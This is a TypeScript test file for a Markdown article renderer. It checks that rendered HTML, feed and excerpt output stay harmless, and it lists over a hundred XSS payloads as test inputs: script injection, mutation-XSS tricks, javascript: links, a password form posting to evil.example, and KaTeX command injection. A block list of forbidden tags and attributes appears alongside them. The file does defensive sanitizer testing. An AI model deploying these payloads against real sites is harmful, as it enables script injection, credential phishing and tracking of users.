import fc from 'fast-check';
import type { Element } from 'hast';
import { describe, expect, it } from 'vitest';
import { articleElement } from './article';
import { stringOf } from './hast/tree';
import { elements, options, render } from './testing';

const OWN_CLASSES =
  /^(?:math|heading|anchor|math-(?:inline|display|scroll|error|error-reason)|katex.*|code|code-.*|hl-.*|card|card-.*|callout|callout-.*|task|task-box|table-scroll|footnote-ref|footnote-back|footnotes|enlarge|image-.*|not-rendered.*)$/;

// What KaTeX draws is made of spans, MathML and SVG of its own; it gets text only, and no attribute of it comes from there.
const NEVER = [
  'script',
  'style',
  'iframe',
  'object',
  'embed',
  'link',
  'meta',
  'base',
  'form',
  'input',
  'textarea',
  'select',
  'template',
  'noscript',
  'foreignobject',
  'animate',
  'set',
  'use',
  'image',
  'audio',
  'frame',
  'frameset',
  'dialog',
  'portal',
  'slot',
  'title',
  'xmp',
  'plaintext',
  'marquee',
];

function inside(parents: ReadonlySet<Element>, node: Element): boolean {
  return parents.has(node);
}

/** Everything that an article may never do, checked on what a browser's parser makes of the HTML. */
function expectHarmless(html: string): void {
  const all = elements(html);
  const drawn = new Set<Element>();
  for (const node of all) {
    const className = node.properties.className;
    if (inside(drawn, node) || (Array.isArray(className) && className.includes('katex'))) {
      drawn.add(node);
      for (const child of node.children) if (child.type === 'element') drawn.add(child);
    }
  }
  const ids = all.flatMap((node) => (node.properties.id === undefined ? [] : [stringOf(node.properties.id)]));
  expect(new Set(ids).size).toBe(ids.length);
  for (const node of all) {
    expect(NEVER).not.toContain(node.tagName.toLowerCase());
    if (!inside(drawn, node)) {
      expect(['svg', 'math', 'path']).not.toContain(node.tagName);
      for (const name of node.properties.className ?? []) expect(name).toMatch(OWN_CLASSES);
      const style = stringOf(node.properties.style);
      expect(style).toMatch(
        /^(?:(?:text-align:(?:left|center|right|justify|start|end)|width:\d+(?:\.\d+)?(?:px|%|em|rem));?)*$/,
      );
    }
    for (const [name, value] of Object.entries(node.properties)) {
      expect(name).not.toMatch(
        /^on|^srcdoc$|^formAction$|^background$|^ping$|^target$|^name$|^xLinkHref$|^httpEquiv$/i,
      );
      const text = String(value);
      if (name === 'href') expect(text).toMatch(/^(?:https?:\/\/|mailto:|#|\/(?![/\\])|(?![^/?#]*:|[/\\]))/i);
      if (name === 'src' || name === 'poster') expect(text).toMatch(/^\/media\//);
      if (name === 'srcSet') expect(text.split(', ').every((part) => part.startsWith('/media/'))).toBe(true);
      if (/url\(|expression|@import/i.test(text))
        expect(['title', 'alt', 'ariaLabel', 'href', 'alttext', 'id', 'className']).toContain(name);
    }
  }
}

const HOSTILE: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>script>alert(1)<</script>/script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" / onload=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img src=`javascript:alert(1)`>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
  '<svg><animate href=#x attributeName=href values=javascript:alert(1) /></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="data:text/html,<script>alert(1)</script>"></object><embed src=x>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" style="position:fixed;inset:0" target=_top ping=https://evil.example>x</a>',
  '[x](javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](JAVASCRIPT&colon;alert(1))',
  '[x](data:text/html,x)',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '![x](https://evil.example/track.gif)',
  '![](//evil.example/track.gif)',
  '![x" onerror="alert(1)](/none.png "t\\" onload=\\"alert(1)")',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<p style="text-align:center;background:url(javascript:alert(1))">x</p>',
  '<p style="width:100px;position:fixed;top:0">x</p>',
  '<div style="position:fixed;inset:0;z-index:9999"><a href="https://evil.example">x</a></div>',
  '<style>body{display:none}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>',
  '<body onload=alert(1)><html><head><title>x</title>',
  '<video src=https://evil.example/x.mp4 poster=https://evil.example/p.png onerror=alert(1) autoplay></video>',
  '<video><source onerror="alert(1)" src="https://evil.example/x"></video>',
  '<video src="/media/x.mp4" poster="javascript:alert(1)"></video>',
  '<details ontoggle=alert(1) open>x</details>',
  '<p id="main" name="cookie" class="katex">x</p>',
  '<img name=getElementById id=location src=/x>',
  '<p data-enlarge data-copy data-trust0="0" data-trust0s="position:fixed">x</p>',
  '<p data-trust1="0" data-trust10="1" data-trust2s="width:1px">x</p>\n\n[^1]\n\n[^1]: x',
  '<DIV DATA-TRUST0="0">x</DIV>\n\n- [x] a',
  '<p dAtA-&#116;rust0="0">x</p>\n\n> [!NOTE]\n> x',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img title="</textarea><script>alert(1)</script>"></textarea>',
  '<plaintext><script>alert(1)</script>',
  '<xmp><p title="</xmp><script>alert(1)</script>"></xmp>',
  '<title><a title="</title><img src=x onerror=alert(1)>">',
  '<!--><script>alert(1)</script>-->',
  '<!-- --!><script>alert(1)</script> -->',
  '<!---><img src=x onerror=alert(1)>-->',
  '<![CDATA[><script>alert(1)</script>]]>',
  '<?xml version="1.0"?><?php echo "<script>alert(1)</script>" ?>',
  '<!DOCTYPE html><script>alert(1)</script>',
  '<p title="a&quot; onclick=&quot;alert(1)">x</p>',
  "<p title='\"><script>alert(1)</script>'>x</p>",
  '<p title="<script>alert(1)</script>" align="center" onclick=x>x</p>',
  '<abbr title="`onmouseover=alert(1)">x</abbr>',
  '<a href=https://ok.example/"onmouseover="alert(1)">x</a>',
  '<td colspan="9999999">x</td>',
  '<table><td><a href="javascript:alert(1)">x</a></table>',
  '<select><style></select><img src=x onerror=alert(1)></style>',
  '<b><p><b><p></b></i></p><script>alert(1)</script>',
  '</div></article></main></body><script>alert(1)</script>',
  '$\\href{javascript:alert(1)}{x}$',
  '$\\includegraphics{https://evil.example/x}$',
  '$\\htmlId{main}{x}\\htmlStyle{position:fixed}{y}$',
  '$\\text{<script>alert(1)</script>}$ $</span><script>alert(1)</script>$',
  '$\\unicode{<script>}$ $\\color{red;position:fixed}{x}$ $\\color{url(https://evil.example)}{x}$',
  '$\\tag{<img src=x onerror=alert(1)>}$',
  '$$x \\label{"><script>alert(1)</script>}$$\n\n\\eqref{"><script>alert(1)</script>}',
  '## x {#"><script>alert(1)</script>}',
  '## <img src=x onerror=alert(1)> {onclick="alert(1)" #ok}',
  '## location\n\n## cookie\n\n## __proto__\n\n## constructor',
  '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
  '```js {1} onload="alert(1)"\n<script>alert(1)</script>\n```',
  '```html\n<script src="https://evil.example"></script>\n<img src=x onerror=alert(1)>\n```',
  '`<script>alert(1)</script>`',
  '[^"><script>]\n\n[^"><script>]: <script>alert(1)</script>',
  '[^__proto__] [^constructor]\n\n[^__proto__]: a\n\n[^constructor]: b',
  '> [!NOTE] <img src=x onerror=alert(1)>\n> x',
  '| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | </table><script>alert(1)</script> |',
  '용어\n: <script>alert(1)</script>',
  'https://youtu.be/"><script>alert(1)</script>',
  '<https://youtu.be/%22onmouseover=alert(1)>',
  'www.evil.example/<script>alert(1)</script>',
  'a@b.example"onmouseover=alert(1)',
  '<!--more--><script>alert(1)</script>\n\n<!--more-->',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '\u2028<script\u2028>alert(1)</script>',
  '<script>alert(1)',
  '<a href="',
  '<a href="https://ok.example',
  '<p title="x\n\n<script>alert(1)</script>">',
];

describe('hostile posts', () => {
  it.each(HOSTILE)('%j', (source) => {
    for (const more of [{}, { idPrefix: 'p1-' }]) {
      const { html, feedHtml, excerptHtml } = render(source, more);
      expectHarmless(html);
      expectHarmless(excerptHtml);
      for (const node of elements(feedHtml)) {
        expect(NEVER).not.toContain(node.tagName.toLowerCase());
        expect(Object.keys(node.properties).filter((name) => /^on|^style$|^class/i.test(name))).toEqual([]);
        for (const name of ['href', 'src']) {
          const value = node.properties[name];
          if (value !== undefined) expect(String(value)).toMatch(/^(?:https?:\/\/|mailto:|#)/);
        }
      }
    }
  });

  it('put no id on the page that is not prefixed, when a prefix is asked for', () => {
    for (const source of HOSTILE) {
      for (const node of elements(render(source, { idPrefix: 'p1-' }).html)) {
        if (node.properties.id !== undefined) expect(node.properties.id).toMatch(/^p1-/);
      }
    }
  });

  it('keep their words', () => {
    expect(render('<script>alert(1)</script>').text).toBe('alert(1)');
    expect(render('앞 <font>말</font> 뒤').text).toBe('앞 말 뒤');
    expect(render('<template>틀</template>').text).toBe('틀');
  });
});

describe('any text', () => {
  const piece = fc.oneof(
    fc.constantFrom(
      '<',
      '>',
      '"',
      "'",
      '&',
      '=',
      '/',
      '`',
      '$',
      '$$',
      '\\',
      '\n',
      '\n\n',
      '*',
      '**',
      '_',
      '~~',
      '[',
      ']',
      '(',
      ')',
      '!',
      '#',
      '# ',
      '> ',
      '- ',
      '1. ',
      '|',
      '|-|',
      ': ',
      '[^1]',
      '[^1]: ',
      '```',
      '    ',
      '\t',
      '{#a}',
      '<!--more-->',
      '[!NOTE]',
      '<p>',
      '</p>',
      '<b>',
      '</b>',
      '<table>',
      '<tr>',
      '<td>',
      '<details>',
      '</details>',
      '<center>',
      '<a href="/x">',
      '</a>',
      '<script>',
      '</script>',
      '<svg>',
      '<style>',
      '<math>',
      ' onclick=x',
      'javascript:',
      'https://a.example',
      'a@b.c',
      '\\label{a}',
      '\\eqref{a}',
      '\\frac',
      '{',
      '}',
      '\\[',
      '\\]',
      '\\(',
      '\\)',
      '가',
      '을',
      'x',
      ' ',
      '\ud83d\ude00',
      '\ud800',
      '\u0000',
      '\u200f',
      'data-trust0="0"',
    ),
    fc.string({ maxLength: 8 }),
  );
  const source = fc.array(piece, { maxLength: 40 }).map((pieces) => pieces.join(''));

  it('is rendered harmlessly, the same each time, without a failing plugin', () => {
    fc.assert(
      fc.property(source, (text) => {
        const first = render(text);
        expectHarmless(first.html);
        expectHarmless(first.excerptHtml);
        expect(render(text)).toEqual(first);
        expect(first.problems.filter((problem) => problem.kind === 'plugin-failed')).toEqual([]);
        expect(first.excerptText.length).toBeLessThanOrEqual(301);
        expect(first.excerptText).not.toContain('\n');
        const lines = text.split(/\r\n?|\n/).length;
        for (const problem of first.problems) expect(problem.line).toBeLessThanOrEqual(lines);
      }),
      { numRuns: 400, seed: 20240101 },
    );
  }, 60_000);

  it('shows the same problems and outline in a preview', () => {
    fc.assert(
      fc.property(source, (text) => {
        const preview = articleElement(text, options);
        const rendered = render(text);
        expect(preview.problems).toEqual(rendered.problems);
        expect(preview.outline).toEqual(rendered.outline);
      }),
      { numRuns: 50, seed: 7 },
    );
  }, 60_000);
});
